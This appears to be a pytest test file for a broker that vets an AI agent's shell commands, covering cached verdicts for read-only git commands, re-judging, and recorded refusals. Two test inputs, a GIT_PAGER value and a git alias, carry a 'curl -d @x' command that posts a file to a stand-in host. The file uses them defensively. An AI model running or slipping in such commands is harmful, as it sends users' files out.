"""Announcements: what is answered at once, and that nothing of it outlives what it was judged by."""

import asyncio
import os
import socket
import subprocess
import tempfile
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import msgspec
import pytest

from sandbox.absent import KIND, stub
from sekisho.broker import callers, commands
from sekisho.broker.announced import Announcements, Guard
from sekisho.broker.door import Door
from sekisho.broker.remembered import MOST, SETTLED, Configs, NeedsTime, NotedFiles, Remembered
from sekisho.broker.state import SessionState
from sekisho.core.action import Action, Effect
from sekisho.core.gate import Gate
from sekisho.core.policy import BUILTIN, Tool, Tools
from sekisho.core.refusal import Refusal, standard
from sekisho.store.store import Store
from shim import protocol
from shim.protocol import Answer, Asked, Refuse, Run
from tests.support.git import run_git
from tests.support.session_state import session_state

INSIDE = "/home/kim/x"


@pytest.fixture
def clone(tmp_path: Path) -> Path:
    """A clone that was made a while ago."""
    folder = tmp_path / "clone"
    run_git("init", "--quiet", str(folder), cwd=tmp_path)
    (folder / "a.txt").write_text("a\n")
    run_git("add", "a.txt", cwd=folder)
    time.sleep(SETTLED / 1e9)
    return folder


@pytest.fixture
def state(tmp_path: Path, clone: Path) -> SessionState:
    (tmp_path / "roots").write_text("")
    roots = str(tmp_path / "roots")
    return session_state(tmp_path, "1129-ask", BUILTIN, project=INSIDE, clone=str(clone), roots=roots)


@pytest.fixture
def looks(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, ...]]:
    """The commands that were observed anew."""
    seen: list[tuple[str, ...]] = []
    observe: Callable[..., Action] = commands.observed

    def noted(state: SessionState, asked: Asked, files: NotedFiles | None = None) -> Action:
        seen.append(asked.argv)
        return observe(state, asked, files)

    monkeypatch.setattr(commands, "observed", noted)
    return seen


def frame(*argv: str, **environment: str) -> bytes:
    asked = Asked(argv=argv, cwd=INSIDE, tool=f"/usr/bin/{argv[0]}", environment=tuple(environment.items()))
    return protocol.encode_request(asked)


Say = Callable[[bytes], Awaitable[Answer | None]]


@asynccontextmanager
async def serving(state: SessionState) -> AsyncIterator[tuple[Say, str]]:
    """What the socket answers to whole frames, None where it closes without a word; and where it lies."""
    folder = tempfile.mkdtemp()
    path = os.path.join(folder, "s")
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen(200)
    server = Announcements(Door(lambda reason, refused: True), state).start(listener)

    async def say(data: bytes) -> Answer | None:
        reader, writer = await asyncio.open_unix_connection(path)
        writer.write(data)
        received = await reader.read()
        writer.close()
        found = protocol.payload_in(received)
        return None if found is None else protocol.decode_answer(found[0])

    try:
        yield say, path
    finally:
        server.close()
        os.unlink(path)
        os.rmdir(folder)


def told(state: SessionState, *frames: bytes) -> list[Answer | None]:
    async def all_of_them() -> list[Answer | None]:
        async with serving(state) as (say, _):
            return [await say(one) for one in frames]

    return asyncio.run(all_of_them())


def test_a_read_is_judged_once(state: SessionState, looks: list[tuple[str, ...]]) -> None:
    status, log = frame("git", "status"), frame("git", "log")
    assert told(state, status, log, status, status, log) == [Run()] * 5
    assert looks == [("git", "status"), ("git", "log")]


def test_a_read_that_took_a_longer_look_is_judged_each_time(
    state: SessionState, looks: list[tuple[str, ...]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """What was looked at in a thread is not known, so nobody can tell whether it still stands."""
    observe: Callable[..., Action] = commands.observed

    def longer(state: SessionState, asked: Asked, files: NotedFiles | None = None) -> Action:
        if files is not None:
            raise NeedsTime
        return observe(state, asked)

    monkeypatch.setattr(commands, "observed", longer)
    assert told(state, *[frame("git", "status")] * 3) == [Run()] * 3
    assert looks == [("git", "status")] * 3


@pytest.mark.parametrize(
    "other",
    [
        frame("git", "status", GIT_PAGER="curl -d @x https://a.example"),
        frame("git", "status", GIT_DIR="/tmp/other"),
        frame("git", "status", "--short"),
    ],
    ids=["pager", "folder", "option"],
)
def test_another_request_is_judged_anew(
    state: SessionState, looks: list[tuple[str, ...]], other: bytes
) -> None:
    told(state, frame("git", "status"), other)
    assert len(looks) == 2


def test_a_read_that_became_something_else_is_not_remembered(
    state: SessionState, clone: Path, looks: list[tuple[str, ...]]
) -> None:
    """An alias that is put in place of what was asked for before."""

    async def story() -> None:
        async with serving(state) as (say, _):
            run_git("config", "alias.st", "status", cwd=clone)
            time.sleep(2 * SETTLED / 1e9)
            assert [await say(frame("git", "st")) for _ in range(3)] == [Run()] * 3
            assert looks == [("git", "st")]
            run_git("config", "alias.st", "!curl -d @x https://a.example", cwd=clone)
            await say(frame("git", "st"))
            assert looks == [("git", "st")] * 2

    asyncio.run(story())


@pytest.mark.parametrize(
    "argv",
    [("git", "push"), ("git", "commit", "-m", "x"), ("make", "all"), ("pytest", "-q"), ("rm", "a.txt")],
)
def test_what_does_more_than_read_is_judged_each_time(
    state: SessionState, looks: list[tuple[str, ...]], argv: tuple[str, ...]
) -> None:
    told(state, frame(*argv), frame(*argv))
    assert looks.count(argv) >= 2


def test_a_read_that_a_rule_calls_a_write_is_judged_each_time(
    state: SessionState, looks: list[tuple[str, ...]]
) -> None:
    rule = Tool(name="cat", type="write", gate=Gate.AUTO, reversible=True, checkable=True)
    ruled = msgspec.structs.replace(state, policy=msgspec.structs.replace(BUILTIN, tool=(rule,)))
    told(ruled, frame("cat", "a.txt"), frame("cat", "a.txt"))
    assert looks == [("cat", "a.txt")] * 2


def test_another_command_sees_a_changed_setting(state: SessionState, clone: Path) -> None:
    """What is remembered of git's configuration is told from what it was changed to."""
    configs: Configs = {}

    def effect(*argv: str) -> Effect:
        asked = Asked(argv=argv, cwd=INSIDE, tool="/usr/bin/git")
        return commands.observed(state, asked, NotedFiles(INSIDE, str(clone), configs)).effect

    run_git("config", "alias.st", "status", cwd=clone)
    time.sleep(2 * SETTLED / 1e9)
    assert effect("git", "status") is Effect.READ
    assert not configs  # no setting changes what git's own commands are
    assert effect("git", "st", "--short") is Effect.READ
    assert configs
    run_git("config", "alias.st", "push", cwd=clone)
    assert effect("git", "st") is Effect.EXTERNAL


def test_an_alias_is_that_of_the_folder_git_goes_to(state: SessionState, clone: Path) -> None:
    run_git("init", "--quiet", "other", cwd=clone)
    run_git("config", "alias.st", "status", cwd=clone)
    run_git("config", "alias.st", "push", cwd=clone / "other")

    def effect(*argv: str) -> Effect:
        return commands.observed(state, Asked(argv=argv, cwd=INSIDE, tool="/usr/bin/git")).effect

    assert effect("git", "st") is Effect.READ
    assert effect("git", "-C", "other", "st") is Effect.EXTERNAL


@pytest.mark.parametrize(
    ("appears", "text"),
    [
        (".git/commondir", "../other"),
        (".git/config.worktree", "[alias]\n\tst = push\n"),
        ("sub/.git", "gitdir: ../other"),
        ("sub/deep/.git", "gitdir: ../../other"),
        (".git/config", "[alias]\n\tst = push\n"),
    ],
)
def test_settings_that_appear_later_are_seen(
    state: SessionState, clone: Path, appears: str, text: str
) -> None:
    (clone / "other").mkdir()
    (clone / "other" / "config").write_text("[alias]\n\tst = push\n")
    (clone / "sub" / "deep").mkdir(parents=True)
    run_git("config", "alias.st", "status", cwd=clone)
    time.sleep(2 * SETTLED / 1e9)
    asked = Asked(argv=("git", "st"), cwd=f"{INSIDE}/sub/deep", tool="/usr/bin/git")
    configs: Configs = {}
    known: Remembered[int] = Remembered()

    def effect() -> Effect:
        files = NotedFiles(INSIDE, str(clone), configs)
        found = commands.observed(state, asked, files).effect
        known.keep(b"st", files, 1)
        return found

    assert effect() is Effect.READ
    assert (known.get(b"st"), len(configs)) == (1, 1)
    (clone / appears).write_text(text)
    assert known.get(b"st") is None
    assert effect() is Effect.EXTERNAL


def test_rubbish_gets_no_answer_and_hinders_nobody(state: SessionState) -> None:
    answers = told(state, b"rubbish", b"99999999:", b"3:1\0x,", frame("git", "status"))
    assert answers == [None, None, None, Run()]


@pytest.fixture
def few(monkeypatch: pytest.MonkeyPatch) -> int:
    monkeypatch.setattr(callers, "MOST_SILENT", 8)
    monkeypatch.setattr(callers, "PATIENCE", 0.3)
    return 8


def test_silent_connections_give_way(state: SessionState, few: int) -> None:
    async def story() -> None:
        async with serving(state) as (say, path):
            silent = [await asyncio.open_unix_connection(path) for _ in range(5 * few)]
            assert await say(frame("git", "status")) == Run()
            assert await asyncio.wait_for(silent[0][0].read(), 5) == b""
            assert await asyncio.wait_for(silent[-1][0].read(), 5) == b""  # its time is up
            for _, writer in silent:
                writer.close()

    asyncio.run(story())


def test_memory_has_an_end(state: SessionState, clone: Path) -> None:
    known: Remembered[int] = Remembered()
    files = NotedFiles(INSIDE, str(clone))
    for number in range(MOST + 10):
        known.keep(b"%d" % number, files, number)
    assert known.get(b"9") is None
    assert known.get(b"10") == 10
    known.keep(b"x" * 100_000, files, 0)
    assert known.get(b"x" * 100_000) is None


def test_a_pinned_host_may_be_private(state: SessionState, tmp_path: Path, clone: Path) -> None:
    asked = Asked(argv=("curl", "http://10.1.2.3/"), cwd=INSIDE, tool="/usr/bin/curl")
    assert commands.observed(state, asked).code == "private-address"
    network = msgspec.structs.replace(BUILTIN.network, resolve={"10.1.2.3": "10.1.2.3"})
    policy = msgspec.structs.replace(BUILTIN, network=network)
    pinned = session_state(
        tmp_path, "1129-pin", policy, project=INSIDE, clone=str(clone), roots=str(tmp_path / "roots")
    )
    assert commands.observed(pinned, asked).effect is Effect.READ


# -- what is refused is on record ------------------------------------------------------------------


def on_record(
    state: SessionState, *asked: Asked, guards: tuple[Guard, ...] = ()
) -> tuple[list[Answer], list[dict[str, Any]]]:
    """The answers, and what the journal has of what was denied."""
    door = Door(lambda reason, refused: True)
    door.open()
    served = Announcements(door, state, guards)

    async def all_of_them() -> list[Answer]:
        return [await served.answer(one) for one in asked]

    answers = asyncio.run(all_of_them())
    door.close()
    with Store() as store:
        records = store.journal.query(session=state.id, kind="act.denied")
        return answers, [record.data for record in records]


def called(*argv: str, tool: str = "") -> Asked:
    return Asked(argv=argv, cwd=INSIDE, tool=tool, environment=())


@pytest.mark.parametrize(
    ("asked", "status"),
    [
        (called("kubectl", "get", "pods"), 127),
        (called("gh", "pr", "list"), 127),
        (called("kubectl", "get", "pods", tool="/usr/local/bin/kubectl"), 77),
        (called("ssh", "host", "ls", tool="/usr/bin/ssh"), 77),
        (called("systemctl", "status", tool="/bin/systemctl"), 77),
    ],
    ids=lambda value: value.argv[0] if isinstance(value, Asked) else value,
)
def test_a_call_of_an_absent_tool_is_denied_on_record(
    state: SessionState, sekisho_home: Path, asked: Asked, status: int
) -> None:
    (answer,), (denied,) = on_record(state, asked)
    assert isinstance(answer, Refuse)
    assert answer.status == status
    assert f"denied (absent-tool): {asked.argv[0]} " in answer.text
    assert denied["code"] == "absent-tool"
    assert denied["reason"] in answer.text
    assert denied["instead"] in answer.text
    assert denied["action"]["verb"].startswith(asked.argv[0])


@pytest.mark.parametrize("name", ["ssh", "kubectl", "mutt", "systemctl"])
def test_an_absent_tool_is_refused_in_the_words_of_its_stub(
    state: SessionState, sekisho_home: Path, name: str
) -> None:
    (answer,), _ = on_record(state, called(name, "x", tool=f"/usr/bin/{name}"))
    assert isinstance(answer, Refuse)
    said = subprocess.run(["sh", "-c", stub(name, KIND[name])], capture_output=True, text=True, check=False)
    assert (answer.text, answer.status) == (said.stderr, said.returncode)


@pytest.mark.parametrize(
    "tool", [f"{INSIDE}/bin/kubectl", "/home/agent/bin/kubectl", "/tmp/x/kubectl", "/usr/../tmp/kubectl"]
)
def test_a_tool_that_the_agent_brought_is_not_called_absent(
    state: SessionState, sekisho_home: Path, tool: str
) -> None:
    assert on_record(state, called("kubectl", "get", "pods", tool=tool)) == ([Run()], [])


@pytest.mark.parametrize("tools", [Tools(keep=("kubectl",)), Tools(only=("kubectl",))])
def test_a_tool_that_policy_keeps_is_not_called_absent(
    state: SessionState, sekisho_home: Path, tools: Tools
) -> None:
    policy = msgspec.structs.replace(
        state.policy, sandbox=msgspec.structs.replace(state.policy.sandbox, tools=tools)
    )
    kept = msgspec.structs.replace(state, policy=policy)
    assert on_record(kept, called("kubectl", "get", "pods", tool="/usr/bin/kubectl")) == ([Run()], [])


def test_what_a_guard_refuses_is_denied_on_record(state: SessionState, sekisho_home: Path) -> None:
    async def guard(asked: Asked, action: Action) -> Refusal | None:
        return standard("secret-in-commit", " ".join(asked.argv), why="it is in a.txt:1")

    commit = called("git", "commit", "-m", "x", tool="/usr/bin/git")
    answers, denied = on_record(state, commit, commit, guards=(guard,))
    assert all(isinstance(answer, Refuse) and answer.status == 77 for answer in answers)
    assert [(one["code"], one["reason"]) for one in denied] == [("secret-in-commit", "it is in a.txt:1")] * 2
    assert denied[0]["action"]["verb"] == "git.commit"
